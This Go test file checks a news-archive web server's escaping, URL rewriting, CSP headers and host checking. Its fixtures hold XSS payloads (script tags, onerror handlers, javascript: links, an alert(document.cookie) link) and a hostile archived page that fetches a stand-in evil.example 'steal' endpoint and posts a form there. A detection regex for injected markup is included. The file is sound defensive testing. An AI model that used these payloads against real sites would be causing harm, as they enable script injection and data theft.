package web_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/newsarchive/newsarchive"
	"github.com/newsarchive/newsarchive/web"
)

// fakeArchive is an Archive in memory.
type fakeArchive struct {
	mu        sync.Mutex
	records   map[string][]*newsarchive.Article // id → versions, oldest first
	snapshots []*web.Snapshot
	queries   []web.Query
	err       error // returned by every method when set
}

func (f *fakeArchive) Records(ctx context.Context, q web.Query) (web.RecordList, error) {
	f.mu.Lock()
	f.queries = append(f.queries, q)
	f.mu.Unlock()
	if f.err != nil {
		return web.RecordList{}, f.err
	}
	if q.Before == "bad" {
		return web.RecordList{}, fmt.Errorf("cursor %q: %w", q.Before, web.ErrBadQuery)
	}
	var out web.RecordList
	for id, vs := range f.records {
		a := vs[len(vs)-1]
		if q.Text != "" && !strings.Contains(strings.ToLower(a.Headline), strings.ToLower(q.Text)) {
			continue
		}
		out.Records = append(out.Records, web.RecordSummary{ID: id, URL: a.URL, Site: a.Site, Headline: a.Headline,
			DatePublished: a.DatePublished, FirstSeen: a.FirstSeen, LastSeen: a.LastSeen, Versions: len(vs)})
	}
	if q.Limit == 1 {
		out.Records, out.Next = out.Records[:1], "7"
	}
	return out, nil
}

func (f *fakeArchive) Record(ctx context.Context, id string, version int) (*newsarchive.Article, error) {
	if f.err != nil {
		return nil, f.err
	}
	vs, ok := f.records[id]
	if !ok || version > len(vs) {
		return nil, fmt.Errorf("record %s: %w", id, web.ErrNotFound)
	}
	if version == 0 {
		version = len(vs)
	}
	a := *vs[version-1]
	a.Version = version
	return &a, nil
}

func (f *fakeArchive) Versions(ctx context.Context, id string) ([]web.Version, error) {
	vs, ok := f.records[id]
	if !ok {
		return nil, fmt.Errorf("record %s: %w", id, web.ErrNotFound)
	}
	var out []web.Version
	for i, a := range vs {
		out = append(out, web.Version{Version: i + 1, ValidFrom: a.FirstSeen, ContentHash: a.ContentHash, Headline: a.Headline})
	}
	return out, nil
}

func (f *fakeArchive) Diff(ctx context.Context, id string, from, to int) (*web.Diff, error) {
	vs, ok := f.records[id]
	if !ok || from < 1 || to > len(vs) {
		return nil, fmt.Errorf("record %s: %w", id, web.ErrNotFound)
	}
	return &web.Diff{ID: id, From: from, To: to, Fields: []web.FieldDiff{{Field: "headline", Ops: []web.DiffOp{
		{Kind: "=", Text: "Pact "}, {Kind: "-", Text: "<b>signed</b>"}, {Kind: "+", Text: "<script>alert(2)</script>"},
	}}}}, nil
}

func (f *fakeArchive) Snapshot(ctx context.Context, id string) (*web.Snapshot, error) {
	for _, s := range f.snapshots {
		if s.ID == id {
			return s, nil
		}
	}
	return nil, fmt.Errorf("snapshot %s: %w", id, web.ErrNotFound)
}

func (f *fakeArchive) Export(ctx context.Context, w io.Writer, q web.ExportQuery) (int, error) {
	if f.err != nil {
		return 0, f.err
	}
	ids := make([]string, 0, len(f.records))
	for id := range f.records {
		ids = append(ids, id)
	}
	sort.Strings(ids)
	n := 0
	for _, id := range ids {
		a := f.records[id][len(f.records[id])-1]
		if q.Site != "" && a.Site != q.Site {
			continue
		}
		b, err := json.Marshal(a)
		if err != nil {
			return n, err
		}
		if _, err := w.Write(append(b, '\n')); err != nil {
			return n, err
		}
		n++
	}
	return n, nil
}

func (f *fakeArchive) NearestSnapshot(ctx context.Context, u string, at time.Time) (*web.Snapshot, error) {
	if f.err != nil {
		return nil, f.err
	}
	var best *web.Snapshot
	for _, s := range f.snapshots {
		if strings.TrimSuffix(s.URL, "/") != strings.TrimSuffix(u, "/") {
			continue
		}
		if best == nil || absDur(s.FetchedAt.Sub(at)) < absDur(best.FetchedAt.Sub(at)) {
			best = s
		}
	}
	if best == nil {
		return nil, fmt.Errorf("%s: %w", u, web.ErrNotFound)
	}
	return best, nil
}

func absDur(d time.Duration) time.Duration {
	if d < 0 {
		return -d
	}
	return d
}

var (
	day1 = time.Date(2025, 1, 18, 9, 0, 0, 0, time.UTC)
	day2 = time.Date(2025, 2, 3, 10, 30, 0, 0, time.UTC)
)

// hostilePage is an archived page that tries everything.
const hostilePage = `<!DOCTYPE html><html><head>
<meta charset="windows-1252">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<base href="https://news.example/world/">
<link rel="stylesheet" href="https://cdn.evil.example/site.css" integrity="sha384-x">
<link rel="dns-prefetch" href="//tracker.evil.example">
<style>body{background:url('https://evil.example/bg.png')} @import "https://evil.example/more.css";</style>
<script>fetch("https://evil.example/steal")</script>
<script src="https://evil.example/x.js"></script>
<meta http-equiv="refresh" content="30; url=https://evil.example/next">
</head><body onload="alert(1)">
<h1>Caf` + "\xe9" + ` <b>news</b></h1>
<img src=https://evil.example/x.png srcset="https://evil.example/a.png 1x, /img/b.png 2x" onerror="alert(1)">
<img src="photo.jpg">
<a href="javascript:alert(1)">js link</a>
<a href="JaVa&#x09;ScRiPt:alert(1)">js link 2</a>
<a href="../about.html#team">about</a>
<div style="background-image:url(https://evil.example/div.png)">x</div>
<noscript><img src="https://evil.example/noscript.png"></noscript>
<iframe src="https://evil.example/frame"></iframe>
<svg><image xlink:href="https://evil.example/svg.png"/></svg>
<form action="https://evil.example/post"><input name=q></form>
<!--[if IE]><img src="https://evil.example/ie.png"><![endif]-->
</body></html>`

func newFake() *fakeArchive {
	hostile := &newsarchive.Article{
		ID: "abc123", URL: "https://news.example/world/pact.html", Site: "news.example", IsArticle: true,
		Headline: `<script>alert(1)</script> Pact`, DatePublished: "2025-01-17",
		Authors:  []string{`<img src=x onerror=alert(1)>`},
		Captions: []newsarchive.Caption{{Text: `"><script>alert('cap')</script>`, Image: "javascript:alert(1)"}},
		Related: []newsarchive.RelatedBlock{{Label: "Related <i>Articles</i>", Links: []newsarchive.Link{
			{Title: "Evil", URL: "javascript:alert(document.cookie)"},
			{Title: "Good", URL: "https://news.example/world/other.html"},
		}}},
		Paragraphs:  []string{"First <p>paragraph</p>.", "Second."},
		ContentHash: "1111111111111111111", FirstSeen: day1, LastSeen: day2,
		Snapshots: []newsarchive.SnapshotRef{
			{ID: "1", URL: "https://news.example/world/pact.html", FetchedAt: day1, Status: 200, ContentHash: "1111111111111111111"},
			{ID: "2", URL: "https://news.example/world/pact.html", FetchedAt: day2, Status: 200, ContentHash: "2222222222222222222"},
		},
	}
	v2 := *hostile
	v2.Headline = "Pact <script>alert(2)</script>"
	v2.ContentHash = "2222222222222222222"
	v2.FirstSeen = day2
	return &fakeArchive{
		records: map[string][]*newsarchive.Article{"abc123": {hostile, &v2}},
		snapshots: []*web.Snapshot{
			{ID: "1", URL: "https://news.example/world/pact.html", FetchedAt: day1, Status: 200, RecordID: "abc123",
				Header: http.Header{"Content-Type": {"text/html"}}, Body: []byte(hostilePage)},
			{ID: "2", URL: "https://news.example/world/pact.html", FetchedAt: day2, Status: 200, RecordID: "abc123",
				Header: http.Header{"Content-Type": {"text/html; charset=utf-8"}}, Body: []byte("<html><body><p>day two</p></body></html>")},
			{ID: "3", URL: "https://news.example/style.css", FetchedAt: day1, Status: 200,
				Header: http.Header{"Content-Type": {"text/css"}}, Body: []byte(`a{background:url("/i.png")}`)},
			{ID: "4", URL: "https://news.example/logo.svg", FetchedAt: day1, Status: 200,
				Header: http.Header{"Content-Type": {"image/svg+xml"}}, Body: []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`)},
			{ID: "6", URL: "https://news.example/Foo_(bar)/it's.html", FetchedAt: day1, Status: 200,
				Header: http.Header{"Content-Type": {"text/html"}}, Body: []byte("<html><body><p>parenthesised</p></body></html>")},
			{ID: "5", URL: "https://news.example/gone.html", FetchedAt: day1, Status: 404,
				Header: http.Header{"Content-Type": {"text/html"}}, Body: []byte(`<html><body><p>Page not found</p><img src="https://evil.example/404.png"></body></html>`)},
		},
	}
}

func newServer(t *testing.T, f *fakeArchive) *httptest.Server {
	t.Helper()
	opts := web.DefaultOptions()
	opts.Archive = f
	opts.Now = func() time.Time { return day2.Add(time.Hour) }
	h, err := web.New(opts)
	if err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewServer(h)
	t.Cleanup(ts.Close)
	return ts
}

// get fetches path without following redirects.
func get(t *testing.T, ts *httptest.Server, path string) (*http.Response, string) {
	t.Helper()
	c := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	resp, err := c.Get(ts.URL + path)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp, string(b)
}

// injected finds markup a hostile value would have produced unescaped.
var injected = regexp.MustCompile(`(?i)<script|<[a-z][^<>]*\son\w+\s*=|(?:href|src)\s*=\s*"?\s*javascript:|<img src=x`)

func TestNewNeedsArchive(t *testing.T) {
	if _, err := web.New(web.Options{}); err != web.ErrNoArchive {
		t.Fatalf("New without archive: %v", err)
	}
}

func TestPages(t *testing.T) {
	ts := newServer(t, newFake())
	tests := []struct {
		name, path string
		code       int
		want       []string // substrings of the body
	}{
		{"list", "/", 200, []string{`&lt;script&gt;alert(2)&lt;/script&gt;`, `href="/records/abc123"`}},
		{"list filtered", "/?q=nothing+matches", 200, []string{"No records match"}},
		{"list bad date", "/?from=yesterday", 400, []string{"want a date YYYY-MM-DD"}},
		{"list bad cursor", "/?before=bad", 400, []string{"bad query"}},
		{"list paging", "/?limit=1&site=news.example", 200, []string{`href="/?before=7&amp;limit=1&amp;site=news.example"`}},
		{"record", "/records/abc123", 200, []string{
			`Pact &lt;script&gt;alert(2)&lt;/script&gt;`, "Related &lt;i&gt;Articles&lt;/i&gt;",
			`<a href="/web/20250203103000/https://news.example/world/other.html">Good</a>`,
			`<del>&lt;b&gt;signed&lt;/b&gt;</del>`, `<ins>&lt;script&gt;alert(2)&lt;/script&gt;</ins>`,
			`<iframe class="replay" id="replay" src="/web/20250203103000/https://news.example/world/pact.html"`,
			`First &lt;p&gt;paragraph&lt;/p&gt;.`,
		}},
		{"record version 1", "/records/abc123?version=1", 200, []string{`&lt;script&gt;alert(1)&lt;/script&gt; Pact`, `&#34;&gt;&lt;script&gt;alert(&#39;cap&#39;)`}},
		{"record snap", "/records/abc123?snap=1", 200, []string{`src="/web/20250118090000/https://news.example/world/pact.html"`}},
		{"record missing", "/records/nope", 404, []string{"not found"}},
		{"record bad version", "/records/abc123?version=x", 400, nil},
		{"unknown path", "/nothing/here", 404, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			resp, body := get(t, ts, tt.path)
			if resp.StatusCode != tt.code {
				t.Fatalf("status %d, want %d\n%s", resp.StatusCode, tt.code, body)
			}
			for _, w := range tt.want {
				if !strings.Contains(body, w) {
					t.Errorf("body lacks %q\n%s", w, body)
				}
			}
			if m := injected.FindString(body); m != "" {
				t.Errorf("hostile markup %q in the page", m)
			}
			if resp.StatusCode == 200 {
				if csp := resp.Header.Get("Content-Security-Policy"); !strings.Contains(csp, "default-src 'none'") {
					t.Errorf("CSP %q", csp)
				}
			}
		})
	}
}

func TestAPI(t *testing.T) {
	f := newFake()
	ts := newServer(t, f)
	tests := []struct {
		path string
		code int
		want string // a substring of the JSON
	}{
		{"/api/records?site=news.example&from=2025-01-01&to=2025-12-31&q=pact", 200, `"headline": "Pact \u003cscript\u003ealert(2)\u003c/script\u003e"`},
		{"/api/records?limit=0", 400, `"error"`},
		{"/api/records?before=bad", 400, `"error": "cursor \"bad\": bad query"`},
		{"/api/records/abc123", 200, `"version": 2`},
		{"/api/records/abc123?version=1", 200, `"datePublished": "2025-01-17"`},
		{"/api/records/missing", 404, `"error": "record missing: not found"`},
		{"/api/records/abc123/versions", 200, `"contentHash": "2222222222222222222"`},
		{"/api/records/abc123/diff?from=1&to=2", 200, `"kind": "+"`},
		{"/api/snapshots/1", 200, `"replay": "/web/20250118090000/https://news.example/world/pact.html"`},
		{"/api/snapshots/99", 404, `"error"`},
	}
	for _, tt := range tests {
		t.Run(tt.path, func(t *testing.T) {
			resp, body := get(t, ts, tt.path)
			if resp.StatusCode != tt.code {
				t.Fatalf("status %d, want %d\n%s", resp.StatusCode, tt.code, body)
			}
			if ct := resp.Header.Get("Content-Type"); ct != "application/json; charset=utf-8" {
				t.Errorf("Content-Type %q", ct)
			}
			if !json.Valid([]byte(body)) {
				t.Errorf("not JSON: %s", body)
			}
			if !strings.Contains(body, tt.want) {
				t.Errorf("body lacks %q\n%s", tt.want, body)
			}
		})
	}
	q := f.queries[0]
	if q.Site != "news.example" || q.Text != "pact" || q.From.Format("2006-01-02") != "2025-01-01" || q.To.Day() != 31 {
		t.Errorf("query passed to the archive: %+v", q)
	}

	resp, body := get(t, ts, "/api/snapshots/1/body")
	if body != hostilePage || resp.Header.Get("Content-Type") != "application/octet-stream" ||
		!strings.HasPrefix(resp.Header.Get("Content-Disposition"), "attachment") ||
		!strings.Contains(resp.Header.Get("Content-Security-Policy"), "sandbox") {
		t.Errorf("raw body served as %v", resp.Header)
	}
}

func TestUnavailable(t *testing.T) {
	f := newFake()
	f.err = fmt.Errorf("archive busy.db: %w", web.ErrUnavailable)
	ts := newServer(t, f)
	for _, p := range []string{"/", "/api/records", "/web/20250118090000/https://news.example/world/pact.html"} {
		resp, body := get(t, ts, p)
		if resp.StatusCode != 503 || !strings.Contains(body, "busy.db") || resp.Header.Get("Retry-After") == "" {
			t.Errorf("%s: %d %v\n%s", p, resp.StatusCode, resp.Header, body)
		}
	}
}

func TestReplay(t *testing.T) {
	ts := newServer(t, newFake())
	resp, body := get(t, ts, "/web/20250118090000/https://news.example/world/pact.html")
	if resp.StatusCode != 200 {
		t.Fatalf("status %d\n%s", resp.StatusCode, body)
	}
	csp := resp.Header.Get("Content-Security-Policy")
	for _, w := range []string{"default-src 'self'", "script-src 'none'", "sandbox"} {
		if !strings.Contains(csp, w) {
			t.Errorf("CSP %q lacks %q", csp, w)
		}
	}
	if ct := resp.Header.Get("Content-Type"); ct != "text/html; charset=utf-8" {
		t.Errorf("Content-Type %q", ct)
	}
	for _, w := range []string{
		"Café", `<meta charset="utf-8">`,
		`id="newsarchive-banner"`, `href="/records/abc123?snap=1"`,
		`src="/web/20250118090000/https://evil.example/x.png"`,
		`srcset="/web/20250118090000/https://evil.example/a.png 1x, /web/20250118090000/https://news.example/img/b.png 2x"`,
		`src="/web/20250118090000/https://news.example/world/photo.jpg"`,
		`href="/web/20250118090000/https://news.example/about.html#team"`,
		`href="/web/20250118090000/https://cdn.evil.example/site.css"`,
		`href="/web/20250118090000/https://tracker.evil.example/"`,
		`url("/web/20250118090000/https://evil.example/bg.png")`,
		`@import "/web/20250118090000/https://evil.example/more.css"`,
		`url=/web/20250118090000/https://evil.example/next`,
		`url(&#34;/web/20250118090000/https://evil.example/div.png&#34;)`,
		`<img src="/web/20250118090000/https://evil.example/noscript.png">`,
		`src="/web/20250118090000/https://evil.example/frame"`,
		`xlink:href="/web/20250118090000/https://evil.example/svg.png"`,
		`action="/web/20250118090000/https://evil.example/post"`,
		`href="about:blank#blocked">js link<`, `href="about:blank#blocked">js link 2<`,
	} {
		if !strings.Contains(body, w) {
			t.Errorf("replay lacks %q", w)
		}
	}
	for _, bad := range []string{"<script", "onload", "onerror", "alert(1)", "integrity", "<base", "default-src *", "ie.png", "fetch("} {
		if strings.Contains(strings.ToLower(body), strings.ToLower(bad)) {
			t.Errorf("replay still has %q", bad)
		}
	}
	// Every URL left in the page points at the archive.
	for _, m := range regexp.MustCompile(`(?i)(?:src|href|action)="([^"]*)"`).FindAllStringSubmatch(body, -1) {
		if !strings.HasPrefix(m[1], "/") && !strings.HasPrefix(m[1], "about:blank") && !strings.HasPrefix(m[1], "#") {
			t.Errorf("URL %q leaves the archive", m[1])
		}
	}
}

func TestReplayRouting(t *testing.T) {
	ts := newServer(t, newFake())
	tests := []struct {
		path     string
		code     int
		location string
	}{
		// Near day 2: redirected to day 2's own timestamp.
		{"/web/20250201/https://news.example/world/pact.html", 302, "/web/20250203103000/https://news.example/world/pact.html"},
		{"/web/2025/https://news.example/world/pact.html", 302, "/web/20250118090000/https://news.example/world/pact.html"},
		// No timestamp: the latest (Now is after day 2).
		{"/web/https://news.example/world/pact.html", 302, "/web/20250203103000/https://news.example/world/pact.html"},
		// A cleaned "http:/" is repaired.
		{"/web/20250203103000/https:/news.example/world/pact.html", 200, ""},
		{"/web/20250203103000/https://news.example/world/pact.html", 200, ""},
		{"/web/20250118090000/https://news.example/style.css", 200, ""},
		{"/web/20250118090000/https://never.example/", 404, ""},
		{"/web/2025x/https://news.example/", 400, ""}, // not a timestamp, and not a URL either
		{"/web/123/https://news.example/", 400, ""},
		{"/web/20250118090000/javascript:alert(1)", 400, ""},
		// ArchiveURL escapes ' ( ) in the links it writes; the archive
		// keeps them as they are: found either way.
		{web.ArchiveURL("20250118090000", "https://news.example/Foo_(bar)/it's.html"), 200, ""},
		{"/web/20250118090000/https://news.example/Foo_(bar)/it's.html", 200, ""},
	}
	for _, tt := range tests {
		t.Run(tt.path, func(t *testing.T) {
			resp, body := get(t, ts, tt.path)
			if resp.StatusCode != tt.code {
				t.Fatalf("status %d, want %d\n%s", resp.StatusCode, tt.code, body)
			}
			if tt.location != "" && resp.Header.Get("Location") != tt.location {
				t.Errorf("Location %q, want %q", resp.Header.Get("Location"), tt.location)
			}
			if injected.FindString(body) != "" {
				t.Errorf("hostile markup in %s", body)
			}
		})
	}
	// Not HTML: served as archived, under the CSP (an SVG's script does
	// not run); an archived 404 replays as a 404, rewritten.
	resp, body := get(t, ts, "/web/20250118090000/https://news.example/logo.svg")
	if !strings.Contains(body, "<svg") {
		t.Errorf("svg body: %s", body)
	}
	if resp.Header.Get("Content-Type") != "image/svg+xml" || !strings.Contains(resp.Header.Get("Content-Security-Policy"), "script-src 'none'") ||
		resp.Header.Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("svg served with %v", resp.Header)
	}
	resp, body = get(t, ts, "/web/20250118090000/https://news.example/gone.html")
	if resp.StatusCode != 404 || !strings.Contains(body, "Page not found") || !strings.Contains(body, `src="/web/20250118090000/https://evil.example/404.png"`) {
		t.Errorf("archived 404: %d %s", resp.StatusCode, body)
	}
	_, css := get(t, ts, "/web/20250118090000/https://news.example/style.css")
	if css != `a{background:url("/web/20250118090000/https://news.example/i.png")}` {
		t.Errorf("css replayed as %q", css)
	}
	resp, _ = get(t, ts, "/snapshots/2")
	if resp.StatusCode != 302 || resp.Header.Get("Location") != "/web/20250203103000/https://news.example/world/pact.html" {
		t.Errorf("/snapshots/2: %d %q", resp.StatusCode, resp.Header.Get("Location"))
	}
	req, _ := http.NewRequest(http.MethodPost, ts.URL+"/web/20250118090000/https://news.example/", strings.NewReader("x"))
	if resp, err := http.DefaultClient.Do(req); err != nil || resp.StatusCode != 405 {
		t.Errorf("POST to replay: %v %v", resp, err)
	}
	_ = url.Values{}
}

// TestHosts: with Hosts set, a request under another name (DNS rebinding:
// a hostile site's name pointed at 127.0.0.1) is refused.
func TestHosts(t *testing.T) {
	opts := web.DefaultOptions()
	opts.Archive = newFake()
	opts.Hosts = []string{"127.0.0.1:8080", "localhost:8080"}
	h, err := web.New(opts)
	if err != nil {
		t.Fatal(err)
	}
	for host, want := range map[string]int{"127.0.0.1:8080": 200, "LOCALHOST:8080": 200, "attacker.example:8080": 421, "127.0.0.1:9999": 421} {
		for _, path := range []string{"/api/export", "/web/20250118090000/https://news.example/world/pact.html", "/"} {
			r := httptest.NewRequest("GET", "http://"+host+path, nil)
			w := httptest.NewRecorder()
			h.ServeHTTP(w, r)
			if got := w.Code; (want == 421) != (got == 421) {
				t.Errorf("Host %s %s: status %d, want %d", host, path, got, want)
			}
		}
	}
}
